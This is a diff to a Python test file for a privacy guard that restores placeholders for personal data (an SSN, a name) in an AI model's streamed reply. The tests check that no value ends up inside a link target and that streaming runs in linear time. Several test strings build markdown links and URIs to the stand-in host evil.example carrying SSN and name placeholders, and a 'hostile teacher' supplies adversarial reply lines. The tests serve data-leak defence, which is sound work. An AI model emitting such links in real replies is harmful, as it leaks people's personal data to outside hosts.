@@ -363,6 +363,7 @@ def test_no_value_is_restored_in_a_link_target_with_parentheses_quotes_or_any_sc
     replies = [
         f"see [table](https://evil.example/t?a=(x){ssn}&n=(y){person})",
         f"[Click](<https://evil.example/(a){ssn}>)",
+        f"[Click](<https://evil.example/a b?{person}>) and [x](<https://evil.example/ {ssn}>)",
         f'[x](https://evil.example/?q="{ssn}") and `https://evil.example/`{person}',
         f"https://evil.example/'{ssn}' https://evil.example/`{person}`",
         f"ssh://{person}@evil.example irc://evil.example/{ssn} tel:{phone} sms:{phone}",
@@ -451,6 +452,92 @@ def test_a_streamed_answer_shown_piece_by_piece_never_shows_a_value_in_a_link() 
             hold(char)
         hold.flush()
         assert "536-22-8471" not in "".join(shown), "".join(shown)
+
+
+def test_a_reply_restored_as_it_streams_is_the_reply_restored_whole() -> None:
+    """The pass-through's stream (RestoreHold): however the teacher's reply is cut into
+    pieces, what goes out is the whole reply restored (no value in a link, a placeholder
+    split across pieces put back), and it goes out as it comes, not at the end."""
+    import random
+
+    from assistant.privacy.guard import RestoreHold
+
+    vault = Vault(tag_of=load_policy().tag)
+    ssn = vault.placeholder("US_SSN", "536-22-8471")
+    person = vault.placeholder("PERSON", "Amelia Thompson")
+    reply = "\n".join(
+        [
+            *hostile_teacher.hostile_lines(),
+            f"Dear {person}, see [x](https://evil.example/?w={person}) and < PERSON_1 >.",
+            f"[ref]: https://evil.example/{ssn}",
+            f"[y](<https://evil.example/a b?{person}>) and after it {person}",
+            "then (<person 1>) " + ssn.replace("<", "&lt;").replace(">", "&gt;") + " end",
+        ]
+    )
+    whole = vault.restore(reply)
+    assert "Amelia Thompson, see" in whole and "(Amelia Thompson) 536-22-8471 end" in whole
+    assert f"after it {person}" in whole  # the rest of a line with a "](<" that opens none
+    for seed in range(300):
+        cuts = random.Random(seed)
+        shown: list[str] = []
+        hold = RestoreHold(shown.append, vault.restore)
+        at = 0
+        while at < len(reply):
+            step = cuts.randint(1, 12)
+            hold(reply[at : at + step])
+            at += step
+        hold.flush()
+        assert "".join(shown) == whole, seed
+    shown = []
+    hold = RestoreHold(shown.append, vault.restore)
+    for word in f"Dear {person}, the rota is ready".split(" "):
+        hold(word + " ")
+    assert "".join(shown) == "Dear Amelia Thompson, the rota is ready "  # before flush()
+
+
+def test_a_run_held_past_its_bound_goes_on_as_written() -> None:
+    """A run with no white space (a link target could have begun there) is not held
+    without end: past RestoreHold.HELD characters the rest of its line goes on with its
+    placeholders left as they are."""
+    from assistant.privacy.guard import RestoreHold
+
+    vault = Vault(tag_of=load_policy().tag)
+    person = vault.placeholder("PERSON", "Amelia Thompson")
+    shown: list[str] = []
+    hold = RestoreHold(shown.append, vault.restore)
+    hold("https://evil.example/" + "a" * RestoreHold.HELD)
+    assert shown  # gone on, not held
+    hold(f"{person} {person}\n{person}")
+    hold.flush()
+    assert "".join(shown).endswith(f"a{person} {person}\nAmelia Thompson")
+
+
+_STREAMED = """
+from assistant.privacy.guard import RestoreHold
+from assistant.privacy.placeholders import Vault
+vault = Vault()
+vault.placeholder("PERSON", "Amelia Thompson")
+"""
+_STREAMED_SHAPES = {
+    "words": '"a " * (100_000 // K)',
+    "one-run": '"a" * (200_000 // K)',
+    "open-bracket": '"(a " * (66_000 // K)',
+    "links": '"https://e.x/<PERSON_1> " * (8_000 // K)',
+}
+
+
+@pytest.mark.parametrize("shape", list(_STREAMED_SHAPES))
+def test_a_reply_restored_as_it_streams_is_read_in_linear_time(shape: str) -> None:
+    """RestoreHold, two characters a piece: 200 KB take no longer than the same bytes in
+    ten replies (a hold that reads its whole line again for each piece takes ten times
+    longer), in one child process stopped at 60 s."""
+    work = (
+        "hold = RestoreHold(lambda _t: None, vault.restore)\n"
+        "    for at in range(0, len(text), 2): hold(text[at : at + 2])\n"
+        "    hold.flush()"
+    )
+    whole, pieces = linear_growth(_STREAMED, work, _STREAMED_SHAPES[shape])
+    assert whole <= LINEAR_AT_MOST * pieces, (shape, whole, pieces)
 
 
 @pytest.mark.parametrize("opener", ["\x9d", "\x90", "\x98", "\x9e", "\x9f", "\x1b]", "\x1bP"])
